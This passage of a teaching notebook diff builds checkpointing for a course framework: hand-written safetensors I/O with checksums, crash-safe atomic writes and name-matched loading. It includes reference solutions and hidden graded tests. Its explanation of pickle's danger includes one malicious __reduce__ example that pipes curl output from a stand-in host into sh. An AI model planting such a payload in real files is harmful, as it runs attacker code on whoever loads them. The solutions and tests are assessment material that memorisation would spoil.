@@ -1,0 +1,1463 @@
+# ---
+# jupyter:
+#   jupytext:
+#     text_representation:
+#       extension: .py
+#       format_name: percent
+#   kernelspec:
+#     display_name: Python 3
+#     language: python
+#     name: python3
+# ---
+
+# %% [markdown]
+# # Module 09 — Checkpoints
+#
+# A training run that takes a day will be interrupted: a machine is
+# preempted, a job hits its time limit, someone presses Ctrl-C. A
+# *checkpoint* is what lets it go on as if nothing happened — and a bad one
+# is worse than none: a file half-written when the process died, a file that
+# silently loads the wrong layer, or one that runs code when it is opened.
+#
+# This module builds tinyflo's checkpoints, in five tasks:
+#
+# | task | what |
+# |---|---|
+# | `checkpoints_format` | the safetensors file format, written and read by hand, with a checksum |
+# | `checkpoints_atomic` | `atomic_write`: a crash at any moment leaves the previous file intact |
+# | `checkpoints_load` | `load_checkpoint` into a model: match by name, `LoadReport`, strict and partial loading |
+# | `checkpoints_resume` | the complete training state: optimizer, schedule, counters, every random generator |
+# | `checkpoints_retention` | `CheckpointManager`: keep the last N, the best, every k-th; save in the background |
+#
+# ## Why not pickle?
+#
+# `torch.save` (before `weights_only=True` became its default) and Python's
+# `pickle` store objects as a little *program* for a stack machine that
+# rebuilds them. One of its instructions is "call this function with these
+# arguments": an object's `__reduce__` method returns `(callable, args)`, and
+# unpickling calls `callable(*args)`. A file crafted with
+# `__reduce__ = lambda self: (os.system, ("curl evil.sh | sh",))` runs that
+# command the moment someone *loads* it. Model files are shared on the
+# internet by the million; "loading a file" must never mean "running
+# someone's code". So: **no pickle anywhere on the load path**.
+#
+# Tensors are just bytes with a dtype and a shape; the rest of a training
+# state (epoch, step, the schedule, random-generator states) is numbers and
+# strings — JSON. The *safetensors* format (Hugging Face) is exactly that
+# pair, and it is small enough to write yourself.
+
+# %%
+#| default_exp core.checkpoints
+
+# %%
+#| export
+from __future__ import annotations
+
+import contextlib
+import dataclasses
+import hashlib
+import json
+import math
+import os
+import tempfile
+import threading
+from collections.abc import Callable, Mapping
+from pathlib import Path
+from typing import IO, Any, NamedTuple
+
+import numpy as np
+
+from tinyflo.core.autograd import no_grad
+from tinyflo.core.tensor import ShapeError, Tensor, _cupy, _Generators, as_device
+from tinyflo.core.training import Callback
+
+# %% nbgrader={"grade": false, "grade_id": "setup", "locked": true, "schema_version": 3, "solution": false}
+import sys
+
+# This notebook *is* tinyflo.core.checkpoints: hide the package's copy of it, so
+# that nothing here leans on the reference solution, by accident or otherwise.
+sys.modules["tinyflo.core.checkpoints"] = None
+
+
+# %%
+import io
+import tinyflo
+from tinyflo.core.data import DataLoader, TensorDataset
+from tinyflo.core.layers import Dropout, Linear, ReLU, Sequential
+from tinyflo.core.losses import cross_entropy
+from tinyflo.core.optim import AdamW
+from tinyflo.core.schedulers import CosineAnnealing, Warmup
+from tinyflo.core.training import Trainer
+
+_workdir = tempfile.TemporaryDirectory()  # every file this notebook writes goes here
+WORK = Path(_workdir.name)
+
+# %% [markdown]
+# ## The safetensors format
+#
+# A safetensors file is three parts, back to back:
+#
+# ```
+# [ 8 bytes: N, the header length, unsigned little-endian ]
+# [ N bytes: a JSON header, padded with spaces to a multiple of 8 ]
+# [ the payload: every tensor's raw bytes, little-endian, one after another ]
+# ```
+#
+# The header maps each tensor's name to
+# `{"dtype": "F32", "shape": [3, 4], "data_offsets": [begin, end]}`, the
+# offsets counted from the start of the payload. One optional entry,
+# `"__metadata__"`, maps strings to strings: that is where the non-tensor
+# state goes, as JSON text. Dtype codes: `F64 F32 F16 BF16 I64 I32 I16 I8
+# U64 U32 U16 U8 BOOL` (NumPy has no bfloat16: the `ml_dtypes` package adds
+# it).
+#
+# The reader must trust *nothing* in the file: a header length larger than
+# the file, offsets that overlap, leave holes or run past the end, a shape
+# whose size does not fit its byte range — each is refused with an error
+# that names the file and the tensor. Then the payload is turned into arrays
+# with `np.frombuffer`: bytes become numbers, nothing is executed.
+#
+# **Integrity.** A disk, a network copy or a half-finished upload can damage
+# a file without any error. We add a SHA-256 checksum to the metadata under
+# `"tinyflo.sha256"`: the hash of the header *without* the checksum itself
+# (as canonical JSON: sorted keys, no spaces) followed by the payload bytes.
+# Any changed bit — a flipped weight, an edited epoch number, a cut-off tail —
+# changes the hash, and the reader refuses the file. A file from another
+# framework has no checksum; it loads, with the check skipped (the caller is
+# told).
+#
+# The dtype table and the checks of a single header entry are given.
+
+# %%
+#| export
+FORMAT_VERSION = "1"
+CHECKSUM_KEY = "tinyflo.sha256"
+FORMAT_KEY = "tinyflo.format"
+STRUCTURE_KEY = "tinyflo.structure"
+STATE_KEY = "tinyflo.state"
+MAX_HEADER_BYTES = 100_000_000  # the reference implementation's limit: a larger "header" is a damaged file
+TEMP_MARK = ".tmp-"  # atomic_write's temporary files: .<name>.tmp-<random>
+_UMASK = os.umask(0o022)
+os.umask(_UMASK)  # read once: os.umask can only be read by setting it, which is not thread-safe later
+FILE_MODE = 0o666 & ~_UMASK  # what open() would give; mkstemp's private 0600 would surprise a user
+
+_CODES = {("f", 8): "F64", ("f", 4): "F32", ("f", 2): "F16", ("i", 8): "I64", ("i", 4): "I32", ("i", 2): "I16",
+          ("i", 1): "I8", ("u", 8): "U64", ("u", 4): "U32", ("u", 2): "U16", ("u", 1): "U8", ("b", 1): "BOOL"}
+_DTYPES = {code: np.dtype(f"<{kind}{size}") if kind != "b" else np.dtype(bool) for (kind, size), code in _CODES.items()}
+
+
+class CheckpointError(ValueError):
+    """A checkpoint file that is damaged, not safetensors, or does not fit what it is loaded into."""
+
+
+def _bfloat16() -> np.dtype | None:
+    try:
+        import ml_dtypes
+    except ImportError:
+        return None
+    return np.dtype(ml_dtypes.bfloat16)
+
+
+def dtype_code(dtype: Any, name: str) -> str:
+    """The safetensors code of a NumPy dtype (``float32`` → ``F32``)."""
+    dtype = np.dtype(dtype)
+    bf16 = _bfloat16()
+    if bf16 is not None and dtype == bf16:
+        return "BF16"
+    code = _CODES.get((dtype.kind, dtype.itemsize))
+    if code is None:
+        raise CheckpointError(f"tensor {name!r} has dtype {dtype}, which safetensors cannot store; "
+                              f"expected one of {', '.join(sorted(_DTYPES))} or bfloat16")
+    return code
+
+
+def code_dtype(code: Any, where: str) -> np.dtype:
+    """The NumPy dtype of a safetensors code (``BF16`` needs ml_dtypes)."""
+    if code == "BF16":
+        bf16 = _bfloat16()
+        if bf16 is None:
+            raise CheckpointError(f"{where}: dtype BF16 needs the ml_dtypes package (pip install ml_dtypes)")
+        return bf16
+    if code not in _DTYPES:
+        raise CheckpointError(f"{where}: unknown dtype {code!r}; expected one of {', '.join(sorted(_DTYPES))}, BF16")
+    return _DTYPES[code]
+
+
+def _check_entry(entry: Any, where: str) -> tuple[np.dtype, tuple[int, ...], int, int]:
+    """(dtype, shape, begin, end) of one header entry, or a CheckpointError saying what is wrong."""
+    if not isinstance(entry, dict) or set(entry) != {"dtype", "shape", "data_offsets"}:
+        raise CheckpointError(f"{where}: expected {{'dtype', 'shape', 'data_offsets'}}; got {entry!r:.120}")
+    dtype = code_dtype(entry["dtype"], where)
+    shape, offsets = entry["shape"], entry["data_offsets"]
+
+    def natural(v: Any) -> bool:
+        return isinstance(v, int) and not isinstance(v, bool) and v >= 0
+
+    if not isinstance(shape, list) or not all(natural(s) for s in shape):
+        raise CheckpointError(f"{where}: shape must be a list of non-negative integers; got {shape!r}")
+    if not (isinstance(offsets, list) and len(offsets) == 2 and all(natural(o) for o in offsets)
+            and offsets[0] <= offsets[1]):
+        raise CheckpointError(f"{where}: data_offsets must be [begin, end] with 0 <= begin <= end; got {offsets!r}")
+    begin, end = offsets
+    expected = math.prod(shape) * dtype.itemsize
+    if end - begin != expected:
+        raise CheckpointError(f"{where}: shape {tuple(shape)} of {entry['dtype']} needs {expected} bytes; "
+                              f"data_offsets {offsets} give {end - begin}")
+    return dtype, tuple(shape), begin, end
+
+
+def _canonical(index: Mapping[str, Any], metadata: Mapping[str, str]) -> bytes:
+    """The header without the checksum, as canonical JSON: what the checksum covers before the payload."""
+    header = dict(index)
+    rest = {k: v for k, v in metadata.items() if k != CHECKSUM_KEY}
+    if rest:
+        header["__metadata__"] = rest
+    return json.dumps(header, sort_keys=True, separators=(",", ":")).encode()
+
+
+def _little_endian(array: Any, name: str) -> np.ndarray:
+    """A C-contiguous little-endian NumPy copy-or-view of a NumPy array or Tensor."""
+    if isinstance(array, Tensor):
+        array = array.data
+    if not isinstance(array, np.ndarray):
+        array = array.get() if hasattr(array, "get") else np.asarray(array)
+    if array.dtype.byteorder == ">":
+        array = array.astype(array.dtype.newbyteorder("<"))
+    return array if array.flags.c_contiguous else array.copy(order="C")  # ascontiguousarray would make 0-d 1-d
+
+
+# %% [markdown]
+# ### Task `checkpoints_format`: write and read safetensors
+#
+# * `write_safetensors(f, tensors, metadata=None, checksum=True)` writes to
+#   an open binary file. Order the tensors by item size (largest first),
+#   then by name — every tensor then starts at a multiple of its own item
+#   size, so arrays read back are aligned. Build the header: for each tensor
+#   its dtype code (`dtype_code`), shape and `[begin, end]` offsets; put the
+#   metadata under `"__metadata__"`, adding, when `checksum` is true, the
+#   format version (`FORMAT_KEY`, unless the caller set one) and the
+#   checksum: SHA-256 of `_canonical(index, metadata)` then of each tensor's
+#   bytes in file order. Encode the header (compact JSON), pad it with
+#   spaces to a multiple of 8, write its length (8 bytes, little-endian),
+#   the header, then each array's bytes (`array.reshape(-1).view(np.uint8)`
+#   works for every dtype, 0-d and empty arrays included). Return the number
+#   of bytes written. Metadata values must be strings.
+# * `parse_header(data, where)` takes the file's bytes and returns
+#   `(index, metadata, payload_start)`: check the length prefix (at least 8
+#   bytes; the header length at most `MAX_HEADER_BYTES` and within the
+#   file), parse the JSON (a dict), take out `"__metadata__"` (a dict of
+#   str → str), check each entry with `_check_entry`, and check that the
+#   offsets, sorted, tile the payload exactly: the first begins at 0, each
+#   begins where the previous ended, and the last ends at the end of the
+#   file. Say "truncated" when the payload is shorter than the header
+#   promises. Every error is a `CheckpointError` naming `where` (the file)
+#   and the tensor.
+# * `load_file(path, verify=True)` reads the file into a `bytearray`, parses
+#   the header, checks the checksum when there is one and `verify` is true
+#   (a mismatch is a `CheckpointError` that says the file is damaged; so is
+#   a file with our format key but no checksum — a damaged key name must
+#   not switch the check off), and
+#   returns `(tensors, metadata)` — arrays made with `np.frombuffer` on the
+#   bytearray (so they are writable and need no copy).
+#
+# `save_file(path, tensors, metadata)` — `write_safetensors` through
+# `atomic_write` (the next task) — is given below.
+
+# %% nbgrader={"grade": false, "grade_id": "checkpoints_format_code", "locked": false, "schema_version": 3, "solution": true}
+#| export
+def write_safetensors(f: IO[bytes], tensors: Mapping[str, Any], metadata: Mapping[str, str] | None = None,
+                      checksum: bool = True) -> int:
+    """Write ``tensors`` (name → array) and ``metadata`` (str → str) to the binary file ``f``; bytes written."""
+    metadata = dict(metadata or {})
+    for key, value in metadata.items():
+        if not isinstance(key, str) or not isinstance(value, str):
+            raise TypeError(f"write_safetensors: metadata must map str to str; {key!r} maps to a {type(value).__name__}")
+    for name in tensors:
+        if not isinstance(name, str) or name == "__metadata__":
+            raise ValueError(f"write_safetensors: tensor names must be strings other than '__metadata__'; got {name!r}")
+    ### BEGIN SOLUTION
+    arrays = {name: _little_endian(a, name) for name, a in tensors.items()}
+    order = sorted(arrays, key=lambda name: (-arrays[name].dtype.itemsize, name))
+    index, offset = {}, 0
+    for name in order:
+        a = arrays[name]
+        index[name] = {"dtype": dtype_code(a.dtype, name), "shape": list(a.shape), "data_offsets": [offset, offset + a.nbytes]}
+        offset += a.nbytes
+    if checksum:
+        metadata.setdefault(FORMAT_KEY, FORMAT_VERSION)
+        digest = hashlib.sha256(_canonical(index, metadata))
+        for name in order:
+            digest.update(arrays[name].reshape(-1).view(np.uint8))
+        metadata[CHECKSUM_KEY] = digest.hexdigest()
+    header = dict(index)
+    if metadata:
+        header["__metadata__"] = metadata
+    raw = json.dumps(header, separators=(",", ":")).encode()
+    raw += b" " * (-len(raw) % 8)
+    f.write(len(raw).to_bytes(8, "little"))
+    f.write(raw)
+    for name in order:
+        f.write(arrays[name].reshape(-1).view(np.uint8))
+    return 8 + len(raw) + offset
+    ### END SOLUTION
+
+
+def parse_header(data: bytes | bytearray | memoryview, where: str) -> tuple[dict[str, Any], dict[str, str], int]:
+    """``(index, metadata, payload_start)`` of a safetensors file's bytes, every entry checked."""
+    ### BEGIN SOLUTION
+    if len(data) < 8:
+        raise CheckpointError(f"{where}: the file has {len(data)} bytes; a safetensors file starts with an "
+                              "8-byte header length (the file is truncated, or not safetensors)")
+    n = int.from_bytes(data[:8], "little")
+    if n > MAX_HEADER_BYTES or 8 + n > len(data):
+        raise CheckpointError(f"{where}: the header length is {n} bytes but the file has {len(data)} bytes "
+                              "(the file is truncated, or not safetensors)")
+    try:
+        header = json.loads(bytes(data[8:8 + n]).decode("utf-8"))
+    except (UnicodeDecodeError, json.JSONDecodeError) as err:
+        raise CheckpointError(f"{where}: the header is not valid JSON ({err}); the file is damaged or not safetensors") from None
+    if not isinstance(header, dict):
+        raise CheckpointError(f"{where}: the header must be a JSON object; got {type(header).__name__}")
+    metadata = header.pop("__metadata__", None) or {}
+    if not isinstance(metadata, dict) or not all(isinstance(k, str) and isinstance(v, str) for k, v in metadata.items()):
+        raise CheckpointError(f"{where}: __metadata__ must map strings to strings; got {metadata!r:.120}")
+    spans = sorted((_check_entry(entry, f"{where}: tensor {name!r}")[2:], name) for name, entry in header.items())
+    payload = len(data) - 8 - n
+    position = 0
+    for (begin, end), name in spans:
+        if begin != position:
+            raise CheckpointError(f"{where}: tensor {name!r} begins at byte {begin} of the payload; expected "
+                                  f"{position} (the tensors must follow each other without gaps or overlaps)")
+        position = end
+    if position > payload:
+        raise CheckpointError(f"{where}: truncated: the header promises {position} bytes of tensor data, "
+                              f"the file holds {payload}")
+    if position < payload:
+        raise CheckpointError(f"{where}: {payload - position} bytes follow the last tensor; the file is damaged")
+    return header, metadata, 8 + n
+    ### END SOLUTION
+
+
+def load_file(path: str | os.PathLike, verify: bool = True) -> tuple[dict[str, np.ndarray], dict[str, str]]:
+    """``(tensors, metadata)`` of a safetensors file; the checksum is checked when the file has one."""
+    path = Path(path)
+    ### BEGIN SOLUTION
+    with open(path, "rb") as f:
+        data = bytearray(os.fstat(f.fileno()).st_size)
+        f.readinto(data)
+    index, metadata, start = parse_header(data, str(path))
+    payload = memoryview(data)[start:]
+    if verify and CHECKSUM_KEY in metadata:
+        digest = hashlib.sha256(_canonical(index, metadata))
+        digest.update(payload)
+        if digest.hexdigest() != metadata[CHECKSUM_KEY]:
+            raise CheckpointError(f"{path}: the checksum does not match: the file is damaged (altered or truncated); "
+                                  "refusing to load it")
+    if verify and FORMAT_KEY in metadata and CHECKSUM_KEY not in metadata:
+        raise CheckpointError(f"{path}: a tinyflo file without its checksum: the file is damaged; refusing to load it")
+    tensors = {}
+    for name, entry in index.items():
+        dtype, shape = code_dtype(entry["dtype"], f"{path}: tensor {name!r}"), tuple(entry["shape"])
+        begin, end = entry["data_offsets"]
+        if end == begin:
+            tensors[name] = np.empty(shape, dtype)
+        else:
+            tensors[name] = np.frombuffer(payload[begin:end], dtype=dtype).reshape(shape)
+    return tensors, metadata
+    ### END SOLUTION
+
+
+# %%
+#| export
+def save_file(path: str | os.PathLike, tensors: Mapping[str, Any], metadata: Mapping[str, str] | None = None,
+              checksum: bool = True) -> Path:
+    """Write a safetensors file atomically (a crash leaves any previous file at ``path`` intact)."""
+    return atomic_write(path, lambda f: write_safetensors(f, tensors, metadata, checksum))
+
+
+# %% [markdown]
+# A round trip through memory (no file needed: `write_safetensors` takes any
+# binary file object), then the first bytes of the result:
+
+# %%
+_buffer = io.BytesIO()
+write_safetensors(_buffer, {"w": np.arange(6, dtype=np.float32).reshape(2, 3), "step": np.int64(7)}, {"note": "hi"})
+_raw = _buffer.getvalue()
+print("header length:", int.from_bytes(_raw[:8], "little"))
+print(_raw[8:8 + int.from_bytes(_raw[:8], "little")].decode())
+
+# %% nbgrader={"grade": true, "grade_id": "checkpoints_format", "locked": true, "points": 3, "schema_version": 3, "solution": false}
+def _roundtrip(tensors, metadata=None):
+    path = WORK / "roundtrip.safetensors"
+    with open(path, "wb") as f:
+        write_safetensors(f, tensors, metadata)
+    return load_file(path)
+
+
+original = {"a": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.array([1, -2], np.int8),
+            "flag": np.array(True), "none": np.zeros((0, 3), np.float64)}
+back, meta = _roundtrip(original, {"epoch": "3"})
+assert set(back) == set(original) and meta["epoch"] == "3" and CHECKSUM_KEY in meta
+for key, value in original.items():
+    assert back[key].dtype == value.dtype and back[key].shape == value.shape, key
+    assert np.array_equal(back[key], value), key
+raw = (WORK / "roundtrip.safetensors").read_bytes()
+n = int.from_bytes(raw[:8], "little")
+assert n % 8 == 0, "the header is padded to a multiple of 8"
+header = json.loads(raw[8:8 + n])
+assert header["a"] == {"dtype": "F32", "shape": [3, 4], "data_offsets": [0, 48]}, "largest items first, then by name"
+assert len(raw) == 8 + n + 48 + 2 + 1, "the payload is the bytes of the tensors, nothing else"
+### BEGIN HIDDEN TESTS
+assert back["a"].flags.writeable, "arrays read into a bytearray are writable"
+big_endian = _roundtrip({"x": np.arange(3, dtype=">i4")})[0]["x"]
+assert big_endian.dtype == np.dtype("<i4") and big_endian.tolist() == [0, 1, 2], "stored little-endian"
+scalar = _roundtrip({"s": np.float16(2.5)})[0]["s"]
+assert scalar.shape == () and scalar.dtype == np.float16 and scalar == 2.5
+
+
+def _damaged(data, *needles):
+    path = WORK / "damaged.safetensors"
+    path.write_bytes(data)
+    try:
+        load_file(path)
+    except CheckpointError as err:
+        assert str(path) in str(err), "the error names the file"
+        for needle in needles:
+            assert needle in str(err), (needle, str(err))
+        return
+    raise AssertionError("a damaged file must be refused")
+
+
+_damaged(raw[:-5], "truncated")
+_damaged(raw[:5])
+flipped = bytearray(raw)
+flipped[-10] ^= 1  # a bit of tensor "a"
+_damaged(bytes(flipped), "checksum")
+edited = raw.replace(b'"epoch":"3"', b'"epoch":"4"')
+assert edited != raw
+_damaged(edited, "checksum")
+
+
+def _with_header(header, payload=b""):
+    text = json.dumps(header).encode()
+    return len(text).to_bytes(8, "little") + text + payload
+
+
+_damaged(_with_header({"x": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]}}, b"\0" * 4), "'x'", "8 bytes")
+_damaged(_with_header({"x": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}, b"\0" * 8), "'x'")
+_damaged(_with_header({"x": {"dtype": "Q9", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4), "'x'", "Q9")
+_damaged(_with_header({"x": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4 + b"junk"), "4 bytes")
+_damaged((2**40).to_bytes(8, "little") + b"{}")
+unchecked = _with_header({"x": {"dtype": "I16", "shape": [2], "data_offsets": [0, 4]}}, np.int16([5, -6]).tobytes())
+(WORK / "foreign.safetensors").write_bytes(unchecked)
+foreign, foreign_meta = load_file(WORK / "foreign.safetensors")
+assert foreign["x"].tolist() == [5, -6] and CHECKSUM_KEY not in foreign_meta, "no checksum: loads unchecked"
+### END HIDDEN TESTS
+
+# %% [markdown]
+# ## Writing without ever destroying the last good file
+#
+# Saving over the previous checkpoint with `open(path, "wb")` first empties
+# the file, then fills it. A process killed in between — and a save of a
+# large model takes seconds — leaves a half-file where the only good
+# checkpoint was. The fix rests on one guarantee of POSIX (and of Windows'
+# `MoveFileEx`, which `os.replace` uses): **renaming a file over another in
+# the same folder is atomic**. Any reader, and any crash, sees either the
+# old file or the new one, never a mix.
+#
+# So write the new file under a temporary name *in the same folder* (a
+# rename across file systems is a copy, not atomic), then rename it over
+# the target. One more trap: `write` only hands the bytes to the operating
+# system's cache. If the *machine* goes down (power, kernel panic) the
+# rename, a small metadata update, may reach the disk before the data do,
+# and after the reboot the name points to an empty file. `os.fsync(fd)`
+# waits until the file's bytes are on the disk; only then rename. Finally
+# `fsync` the folder too, so the rename itself is durable (POSIX only:
+# Windows cannot open a folder).
+#
+# ### Task `checkpoints_atomic`
+#
+# `atomic_write(path, write)` calls `write(f)` with a binary file open on a
+# temporary file `.<name>.tmp-<random>` in the folder of `path`
+# (`tempfile.mkstemp(dir=..., prefix=f".{path.name}{TEMP_MARK}")`), then
+# `flush()` (Python's buffer to the OS), `os.fsync`, close, `os.replace` onto
+# `path`, and fsync the folder (`_fsync_directory`, given). If anything
+# raises — `write` itself included — remove the temporary file and let the
+# exception through: the old file stays as it was. Return `path` as a
+# `Path`.
+
+# %%
+#| export
+def _fsync_directory(directory: Path) -> None:
+    """Make a rename in ``directory`` durable (POSIX; Windows cannot open a folder and needs no call)."""
+    if os.name != "posix":
+        return
+    fd = os.open(directory, os.O_RDONLY)
+    try:
+        os.fsync(fd)
+    finally:
+        os.close(fd)
+
+
+# %% nbgrader={"grade": false, "grade_id": "checkpoints_atomic_code", "locked": false, "schema_version": 3, "solution": true}
+#| export
+def atomic_write(path: str | os.PathLike, write: Callable[[IO[bytes]], Any]) -> Path:
+    """Call ``write(f)`` on a temporary file next to ``path``; fsync it, then rename it onto ``path``."""
+    path = Path(path)
+    if not path.parent.is_dir():
+        raise FileNotFoundError(f"atomic_write: the folder of path {str(path)!r} does not exist")
+    ### BEGIN SOLUTION
+    fd, temp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}{TEMP_MARK}")
+    try:
+        os.chmod(temp, FILE_MODE)
+        with os.fdopen(fd, "wb") as f:
+            write(f)
+            f.flush()
+            os.fsync(f.fileno())
+        os.replace(temp, path)
+    except BaseException:
+        with contextlib.suppress(FileNotFoundError):
+            os.unlink(temp)
+        raise
+    _fsync_directory(path.parent)
+    return path
+    ### END SOLUTION
+
+
+# %% nbgrader={"grade": true, "grade_id": "checkpoints_atomic", "locked": true, "points": 2, "schema_version": 3, "solution": false}
+target = WORK / "atomic" / "model.bin"
+target.parent.mkdir()
+assert atomic_write(target, lambda f: f.write(b"old")) == target and target.read_bytes() == b"old"
+
+
+def _dies_halfway(f):
+    f.write(b"new, but only ha")
+    raise KeyboardInterrupt("the user pressed Ctrl-C")
+
+
+try:
+    atomic_write(target, _dies_halfway)
+    raise AssertionError("the exception must come through")
+except KeyboardInterrupt:
+    pass
+assert target.read_bytes() == b"old", "a failed write leaves the old file intact"
+assert sorted(p.name for p in target.parent.iterdir()) == ["model.bin"], "and no temporary file behind"
+### BEGIN HIDDEN TESTS
+events = []
+real_fsync, real_replace = os.fsync, os.replace
+os.fsync = lambda fd: (events.append(("fsync", os.path.isdir(f"/proc/self/fd/{fd}") if os.path.exists("/proc/self/fd") else None)), real_fsync(fd))[1]
+os.replace = lambda a, b: (events.append(("replace", Path(a).parent == Path(b).parent, Path(a).name.startswith(".model.bin"))), real_replace(a, b))[1]
+try:
+    atomic_write(target, lambda f: f.write(b"new"))
+finally:
+    os.fsync, os.replace = real_fsync, real_replace
+assert target.read_bytes() == b"new"
+kinds = [e[0] for e in events]
+assert "fsync" in kinds and "replace" in kinds and kinds.index("fsync") < kinds.index("replace"), \
+    "fsync the data before the rename"
+assert events[kinds.index("replace")][1:] == (True, True), "the temporary file lives next to the target"
+assert sorted(p.name for p in target.parent.iterdir()) == ["model.bin"]
+### END HIDDEN TESTS
+
+# %% [markdown]
+# ## Loading into a model: by name, checked, reported
+#
+# A checkpoint's model tensors are stored under the model's qualified names
+# (`0.weight`, `encoder.layers.1.bias`, ... — `Module.state_dict()`), in
+# their own dtypes. Loading matches **by name**, never by position: a model
+# whose layers were reordered, or a file from another framework with the
+# same names, loads correctly or fails loudly.
+#
+# **Structure.** `structural_hash(model)` is a SHA-256 over the sorted
+# (name, shape) pairs of the parameters and buffers and over the tree of
+# module classes. Not the dtypes (a model cast to float16 still matches its
+# float32 checkpoint) and not the values. It is stored in the file; loading
+# compares it with the model's and, in `strict` mode, refuses a different
+# structure with an error that says which names differ.
+#
+# **Partial loading (transfer learning).** `strict=False` loads every name
+# that is in both, and reports the rest in a `LoadReport`:
+# `loaded` (copied), `skipped` (in the file, not in the model), `missing`
+# (in the model, not in the file). A typical use: load a pretrained body
+# into a model with a new head, then freeze what was loaded
+# (`report.freeze_loaded(model)`) and train only the head.
+#
+# **Never half-load.** A matched name whose shapes differ is an error in
+# either mode — it names the key and both shapes — and every check happens
+# *before* the first byte is copied.
+#
+# **Copy into, never replace.** The optimizer holds references to the
+# parameters, and a flat optimizer (module 06) made each `p.data` a *view*
+# of one big buffer. Loading must write into the existing arrays
+# (`p.data[...] = values`, converted to the parameter's dtype and device);
+# rebinding `p.data = values` would cut the parameter off from its
+# optimizer.
+#
+# The state layout (given): the model's tensors under their own names; the
+# optimizer's arrays (Adam's `exp_avg`, ...) under
+# `optimizer.state.<index>.<key>`; everything else JSON, in
+# `__metadata__["tinyflo.state"]`, with `{"__tensor__": name}` where an
+# array was taken out. `capture_state` takes host copies (the next tasks
+# rely on that); `write_state` writes them.
+
+# %%
+#| export
+def _module_tree(model: Any) -> list[list[str]]:
+    return [[name, type(m).__name__] for name, m in model.named_modules()]
+
+
+def _shapes(model: Any) -> dict[str, list[int]]:
+    return {name: list(t.shape) for name, t in model.state_dict().items()}
+
+
+def structural_hash(model: Any) -> str:
+    """SHA-256 over the sorted (name, shape) of parameters and buffers and the module class tree."""
+    text = json.dumps({"tensors": sorted(_shapes(model).items()), "modules": _module_tree(model)},
+                      separators=(",", ":"))
+    return hashlib.sha256(text.encode()).hexdigest()
+
+
+def _host(value: Any) -> np.ndarray:
+    """A NumPy copy (never a view) of a Tensor or a NumPy/CuPy array."""
+    if isinstance(value, Tensor):
+        value = value.data
+    if isinstance(value, np.ndarray):
+        return value.copy()
+    return value.get() if hasattr(value, "get") else np.array(value)
+
+
+def _is_array(value: Any) -> bool:
+    return isinstance(value, Tensor) or (hasattr(value, "shape") and hasattr(value, "dtype") and not isinstance(value, np.generic))
+
+
+def _encode(value: Any, name: str, tensors: dict[str, np.ndarray]) -> Any:
+    """``value`` as JSON data; its arrays (host copies) go into ``tensors`` under dotted names."""
+    if _is_array(value):
+        if name in tensors:
+            raise ValueError(f"checkpoint: two tensors would be named {name!r} (does the model have a sub-module "
+                             "named 'optimizer', 'scheduler', 'rng', 'loader', 'trainer', 'scaler' or 'extra'?)")
+        tensors[name] = _host(value)
+        return {"__tensor__": name}
+    if isinstance(value, dict):
+        return {str(k): _encode(v, f"{name}.{k}", tensors) for k, v in value.items()}
+    if isinstance(value, list | tuple):
+        return [_encode(v, f"{name}.{i}", tensors) for i, v in enumerate(value)]
+    if isinstance(value, np.generic):
+        return value.item()
+    if value is None or isinstance(value, bool | int | float | str):
+        return value
+    raise TypeError(f"checkpoint: {name} is a {type(value).__name__}, which is neither an array nor JSON data")
+
+
+def _decode(value: Any, tensors: Mapping[str, np.ndarray], where: str) -> Any:
+    """The inverse of ``_encode``: arrays put back from ``tensors``."""
+    if isinstance(value, dict):
+        if set(value) == {"__tensor__"}:
+            if value["__tensor__"] not in tensors:
+                raise CheckpointError(f"{where}: the state refers to tensor {value['__tensor__']!r}, which the file lacks")
+            return tensors[value["__tensor__"]]
+        return {k: _decode(v, tensors, where) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_decode(v, tensors, where) for v in value]
+    return value
+
+
+class CheckpointState(NamedTuple):
+    """A training state in host memory: tensors by name, and JSON data (what a checkpoint file holds)."""
+
+    tensors: dict[str, np.ndarray]
+    state: dict[str, Any]
+
+    @property
+    def nbytes(self) -> int:
+        """The bytes of all tensors."""
+        return sum(a.nbytes for a in self.tensors.values())
+
+
+def write_state(path: str | os.PathLike, snapshot: CheckpointState) -> Path:
+    """Write a CheckpointState to ``path`` atomically, with format version, structure hash and checksum."""
+    metadata = {FORMAT_KEY: FORMAT_VERSION, STATE_KEY: json.dumps(snapshot.state)}
+    if "model" in snapshot.state:
+        metadata[STRUCTURE_KEY] = snapshot.state["model"]["hash"]
+    return save_file(path, snapshot.tensors, metadata)
+
+
+@dataclasses.dataclass(frozen=True)
+class LoadReport:
+    """What a load did: ``loaded`` (copied), ``skipped`` (file only), ``missing`` (model only), checksum checked."""
+
+    loaded: tuple[str, ...]
+    skipped: tuple[str, ...]
+    missing: tuple[str, ...]
+    verified: bool = True
+
+    def __repr__(self) -> str:
+        def names(items: tuple[str, ...]) -> str:
+            shown = ", ".join(items[:5]) + (", ..." if len(items) > 5 else "")
+            return f"{len(items)}" + (f" [{shown}]" if items else "")
+
+        check = "checksum verified" if self.verified else "no checksum in the file: integrity not checked"
+        return f"LoadReport(loaded={names(self.loaded)}, skipped={names(self.skipped)}, missing={names(self.missing)}; {check})"
+
+    def freeze_loaded(self, model: Any) -> Any:
+        """Freeze every parameter that was loaded (transfer learning: train only the rest)."""
+        for name, p in model.named_parameters():
+            if name in self.loaded:
+                p.freeze()
+        return model
+
+
+def _assign(target: Tensor, values: np.ndarray) -> None:
+    """Copy host ``values`` into ``target``'s existing array, on its device, in its dtype."""
+    device = target.device
+    with device:
+        target.data[...] = device.xp.asarray(values).astype(target.dtype, copy=False)
+
+
+# %% [markdown]
+# ### Task `checkpoints_load`
+#
+# `_plan_model_load(model, tensors, state, strict, where)` decides, without
+# copying anything, what a load will do; it returns
+# `(pairs, LoadReport)` where `pairs` lists `(target tensor, values)`:
+#
+# 1. The file's model names: `state["model"]["keys"]` when the file is
+#    ours; all its tensors when it is another framework's (no
+#    `"model"` in the state).
+# 2. `loaded` = names in both (in the model's order), `skipped` = in the
+#    file only, `missing` = in the model only.
+# 3. A loaded name whose shapes differ: `ShapeError` naming the key and
+#    both shapes (`... has shape (3, 4) in the file and (4, 4) in the
+#    model`), in both modes.
+# 4. `strict=True`: the structure must match — the stored hash equals
